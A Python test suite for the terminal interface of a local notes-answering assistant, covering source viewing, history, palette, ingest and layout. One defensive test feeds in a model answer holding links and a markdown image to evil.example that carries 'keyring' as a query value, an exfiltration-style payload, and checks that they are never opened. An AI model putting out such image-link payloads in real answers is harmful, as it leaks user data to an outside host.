"""The screens around the chat: a source's passage, history, palette, ingest, stats, size."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from click.testing import CliRunner
from textual.pilot import Pilot
from textual.widgets import Markdown, OptionList, ProgressBar
from textual.widgets.markdown import MarkdownBlock

from assistant import core
from assistant.cli import cli
from ingest.fakes import HashingEmbedder
from models.download import format_size
from models.fake import ScriptedModel
from tests.tui.conftest import AssistantMaker
from tests.tui.helpers import (
    ANSWER,
    QUESTION,
    Recorder,
    ask,
    settle,
    start_ingest,
    two_profile_config,
)
from tui.app import MarginApp
from tui.screens.help import HelpScreen
from tui.screens.ingest import IngestScreen
from tui.screens.source import SourceScreen
from tui.screens.stats import StatsScreen
from tui.widgets.chat_log import ChatLog
from tui.widgets.sources import SourceList
from tui.widgets.status import StatusBar
from tui.widgets.streaming import StreamingMarkdown

pytestmark = pytest.mark.anyio


async def test_a_source_opens_in_full_and_in_the_editor(make_assistant: AssistantMaker) -> None:
    editor = Recorder()
    app = MarginApp(make_assistant(), run_command=editor)
    async with app.run_test() as pilot:
        await settle(pilot)
        await ask(pilot)
        await settle(pilot)
        app.query_one(SourceList).focus()
        await pilot.press("enter")
        await pilot.pause()
        screen = app.screen
        assert isinstance(screen, SourceScreen)
        assert screen.source.path.endswith("/keys.md")
        passage = str(screen.query_one("#passage").render())
        assert "margin keeps API keys in the system keyring." in passage
        await pilot.press("e")
        await pilot.pause()
        [command] = editor.commands
        assert command[0] == "vim" and command[-1].endswith("/keys.md")
        # at the cited sentence's line, under the note's heading (the chunk's first line)
        assert (screen.source.line, command[1]) == (1, "+3")
        await pilot.press("escape")
        assert app.screen is app.chat


KILN_NOTE = "# Kiln\n\n" + "".join(
    f"Firing log {day}: the glaze test came out even and the shelves were reloaded.\n"
    for day in range(1, 7)
)
KILN_FACT = "The kiln fires stoneware at 1240 degrees and earthenware at 1060."


async def test_the_editor_opens_a_source_at_the_line_the_answer_cites(
    notes: Path, make_assistant: AssistantMaker
) -> None:
    (notes / "kiln.md").write_text(KILN_NOTE + KILN_FACT + "\n", encoding="utf-8")
    editor = Recorder()
    model = ScriptedModel([f"{KILN_FACT} [1]"])
    app = MarginApp(make_assistant(model), run_command=editor)
    async with app.run_test() as pilot:
        await settle(pilot)
        await ask(pilot, "At what temperature does the kiln fire stoneware?")
        await settle(pilot)
        sources = app.query_one(SourceList)
        [kiln] = [i for i, s in enumerate(sources.sources) if s.cited_line is not None]
        source = sources.sources[kiln]
        fact_line = (KILN_NOTE + KILN_FACT).count("\n") + 1
        assert source.path.endswith("/kiln.md") and source.line is not None
        assert source.line < fact_line == source.cited_line  # the chunk's line, the answer's
        sources.focus()
        sources.highlighted = kiln
        await pilot.press("e")
        await pilot.pause()
        [command] = editor.commands
        assert command[1] == f"+{fact_line}" and command[-1].endswith("/kiln.md")


async def test_guardrail_events_show_on_the_answer(make_assistant: AssistantMaker) -> None:
    model = ScriptedModel(["margin keeps API keys in the system keyring [1] [7]."])
    app = MarginApp(make_assistant(model))
    async with app.run_test() as pilot:
        await settle(pilot)
        await ask(pilot)
        await settle(pilot)
        exchange = app.query_one(ChatLog).last
        assert exchange is not None and exchange.answer is not None
        guardrails = exchange.query_one(".guardrails")
        assert guardrails.display
        assert "citation.invalid" in str(guardrails.render())


async def test_a_past_conversation_reopens_and_can_be_rated(
    make_assistant: AssistantMaker,
) -> None:
    assistant = make_assistant()
    app = MarginApp(assistant)
    async with app.run_test() as pilot:
        await settle(pilot)
        await ask(pilot)
        await settle(pilot)
        first = app.chat.conversation_id
        await pilot.press("ctrl+n")
        await pilot.pause()
        assert app.query_one(ChatLog).exchanges == [] and app.chat.conversation_id is None
        await pilot.press("ctrl+l")
        await settle(pilot)
        await pilot.press("enter")
        await settle(pilot)
        assert app.chat.conversation_id == first
        [exchange] = app.query_one(ChatLog).exchanges
        assert exchange.text == ANSWER
        [turn] = app.chat.turns
        assert (turn.question, turn.answer, turn.local_only) == (exchange.question, ANSWER, False)
        await pilot.press("f3")
        await pilot.pause()
        await pilot.press("enter")
        await settle(pilot)
        assert exchange.rating == "down" and assistant.stats().feedback_down == 1


async def test_palette_switches_profile_and_collection(
    make_assistant: AssistantMaker, tmp_path: Path
) -> None:
    config = two_profile_config(tmp_path)
    work = ScriptedModel(["From the remote model [1]."], is_remote=True, profile="work")
    app = MarginApp(make_assistant(config=config, extra_models={"work": work}))
    async with app.run_test() as pilot:
        await settle(pilot)
        shown = []
        for query in ("model: work", "collection: default"):
            await pilot.press("ctrl+p")
            await pilot.pause()
            await pilot.press(*query)
            await settle(pilot)
            options = app.screen.query_one(OptionList)
            shown.append(str(options.get_option_at_index(0).prompt))
            await pilot.press("enter")
            await pilot.pause()
        assert "Model: work (region eu)" in shown[0]
        assert "(models: local, work; answer: generate" in shown[1]
        assert app.session.profile == "work" and app.session.collection == "default"
        status = app.query_one(StatusBar).figures
        assert status.profile == "work (region eu)" and status.remote
        assert status.collection == "default"
        await ask(pilot)
        await settle(pilot)
        exchange = app.query_one(ChatLog).last
        assert exchange is not None and exchange.answer is not None
        assert exchange.answer.model == "work" and len(work.calls) == 1


async def ingest_on_screen(
    app: MarginApp, pilot: Pilot[None], folder: Path
) -> tuple[IngestScreen, str]:
    """Open the ingest screen, ingest `folder` there; the screen and its summary line."""
    screen = await start_ingest(app, pilot, folder)
    await settle(pilot)
    return screen, str(screen.query_one("#ingest-summary").render())


async def test_ingest_screen_reports_progress_and_failures(
    make_assistant: AssistantMaker, home: Path
) -> None:
    folder = home / "more"
    folder.mkdir()
    (folder / "ok.md").write_text("# Fine\n\nA readable note.\n", encoding="utf-8")
    (folder / "broken.pdf").write_bytes(b"%PDF-1.7\nthis is not really a pdf\n")
    app = MarginApp(make_assistant(ingest=False))
    async with app.run_test(size=(100, 30)) as pilot:
        screen, summary = await ingest_on_screen(app, pilot, folder)
        assert summary.startswith("Done: 1 added") and "1 failed" in summary
        table = screen.query_one("#problems")
        assert table.display and table.row_count == 1  # type: ignore[attr-defined]
        assert "broken.pdf" in str(table.get_row_at(0)[0])  # type: ignore[attr-defined]
        await pilot.press("escape")
        assert app.screen is app.chat


async def test_ingesting_a_local_only_folder_again_keeps_it_local_only_and_says_so(
    make_assistant: AssistantMaker, home: Path
) -> None:
    folder = home / "private"
    folder.mkdir()
    (folder / "vault.md").write_text("# Vault\n\nThe code is bluefin.\n", encoding="utf-8")
    assistant = make_assistant(ingest=False)
    assistant.ingest([folder], collection="wardens", local_only=True)
    app = MarginApp(assistant)
    async with app.run_test(size=(100, 30)) as pilot:
        _screen, summary = await ingest_on_screen(app, pilot, folder)
        assert "1 kept where they were" in summary
    [doc] = assistant.sources()
    assert (doc.collection, doc.local_only) == ("wardens", True)


async def test_stats_screen_reads_the_log(make_assistant: AssistantMaker) -> None:
    app = MarginApp(make_assistant())
    async with app.run_test(size=(100, 30)) as pilot:
        await settle(pilot)
        await ask(pilot)
        await settle(pilot)
        await pilot.press("ctrl+s")
        await settle(pilot)
        assert isinstance(app.screen, StatsScreen)
        assert str(app.screen.query_one("#stats-summary").render()).startswith("1 answers")


async def test_everything_fits_at_80_by_24(make_assistant: AssistantMaker) -> None:
    app = MarginApp(make_assistant())
    async with app.run_test(size=(80, 24)) as pilot:
        await settle(pilot)
        await ask(pilot)
        await settle(pilot)
        screen = app.screen.region
        for selector in ("#chat-log", "#sources", "#question", "#status"):
            region = app.query_one(selector).region
            assert region.area > 0 and screen.contains_region(region), selector
        assert app.query_one("#sources").region.width >= 24
        assert app.query_one("#chat-log").region.width >= 48
        await pilot.press("f1")
        await pilot.pause()
        assert isinstance(app.screen, HelpScreen)
        assert screen.contains_region(app.screen.query_one("#help-box").region)


async def test_the_conversation_fills_the_view_again_after_a_resize(
    make_assistant: AssistantMaker,
) -> None:
    """140x45, then 70x20 (the conversation overflows: the newest answer shows), then
    140x45 again: the conversation starts at the top, not under an empty band."""
    app = MarginApp(make_assistant(ScriptedModel([ANSWER])))
    async with app.run_test(size=(140, 45)) as pilot:
        await settle(pilot)
        for _ in range(2):
            await ask(pilot)
            await settle(pilot)
        chat_log = app.query_one(ChatLog)
        await pilot.resize_terminal(70, 20)
        await settle(pilot)
        assert chat_log.max_scroll_y > 0 and chat_log.scroll_y == chat_log.max_scroll_y
        await pilot.resize_terminal(140, 45)
        await settle(pilot)
        top = chat_log.content_region.y
        assert chat_log.max_scroll_y == 0 and chat_log.scroll_y == 0
        assert chat_log.query_one("#welcome").region.y == top


async def test_links_in_answers_are_shown_as_text_never_opened(
    make_assistant: AssistantMaker,
) -> None:
    model = ScriptedModel(
        [
            "Keys live in the keyring [1], see [docs](http://evil.example/x). "
            "![status](https://evil.example/s.png?d=keyring) http://evil.example/bare"
        ]
    )
    app = MarginApp(make_assistant(model))
    opened: list[str] = []
    app.open_url = lambda url, **_: opened.append(url)  # type: ignore[method-assign]
    async with app.run_test() as pilot:
        await settle(pilot)
        await ask(pilot)
        await settle(pilot)
        markdown = app.query_one(StreamingMarkdown)
        assert "docs (`http://evil.example/x`)" in markdown.source
        assert "(image: status — `https://evil.example/s.png?d=keyring`)" in markdown.source
        shown = [block._content for block in markdown.query(MarkdownBlock)]
        text = " ".join(content.plain for content in shown)
        assert "http://evil.example/x" in text and "https://evil.example/s.png?d=keyring" in text
        styles = [str(span.style) for content in shown for span in content.spans]
        assert not any("@click" in style or "link" in style for style in styles), styles
        markdown.post_message(Markdown.LinkClicked(markdown, "http://evil.example/x"))
        await pilot.pause()
        assert opened == [] and app.clipboard == "http://evil.example/x"


async def test_ingest_screen_shows_bytes_chunks_and_time_left_while_it_runs(
    make_assistant: AssistantMaker, home: Path
) -> None:
    folder = home / "fresh"
    folder.mkdir()
    for n in range(3):
        (folder / f"note{n}.md").write_text(f"# Note {n}\n\n" + "word " * 300, encoding="utf-8")
    size = sum(path.stat().st_size for path in folder.iterdir())
    app = MarginApp(make_assistant(ingest=False))
    async with app.run_test(size=(120, 30)) as pilot:
        screen, summary = await ingest_on_screen(app, pilot, folder)
        assert summary.startswith("Done: 3 added")
        bar = screen.query_one("#ingest-progress", ProgressBar)
        assert bar.total == bar.progress == size
        meter = screen._meter
        assert meter is not None and meter.latest is not None
        line = meter.describe()
        shown = format_size(size)
        assert line.startswith(f"{shown} of {shown} (100%) · 3 of 3 files · ")
        assert f" · {meter.latest.chunks_done} chunks · " in line


async def test_chat_and_margin_ask_continue_the_same_conversations(
    make_assistant: AssistantMaker, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A conversation begun with `margin ask` reopens in chat, and `--continue` follows the
    turn chat added: one conversations table for both."""
    monkeypatch.setattr(core, "load_embedder", lambda config, locations: HashingEmbedder())
    assistant = make_assistant()
    started = CliRunner().invoke(cli, ["ask", "What is 17% of 2350?", "--json"])
    assert started.exit_code == 0, started.output
    conversation = json.loads(started.stdout)["conversation_id"]
    app = MarginApp(assistant)
    async with app.run_test() as pilot:
        await settle(pilot)
        await pilot.press("ctrl+l")
        await settle(pilot)
        await pilot.press("enter")
        await settle(pilot)
        assert app.chat.conversation_id == conversation
        [exchange] = app.query_one(ChatLog).exchanges
        assert "399.5" in exchange.text
        await ask(pilot)
        await settle(pilot)
        assert len(app.query_one(ChatLog).exchanges) == 2
    continued = CliRunner().invoke(cli, ["ask", "What is 2+2?", "--continue", "--json"])
    assert json.loads(continued.stdout)["conversation_id"] == conversation
    assert [t.question for t in assistant.turns(conversation)] == [
        "What is 17% of 2350?",
        QUESTION,
        "What is 2+2?",
    ]
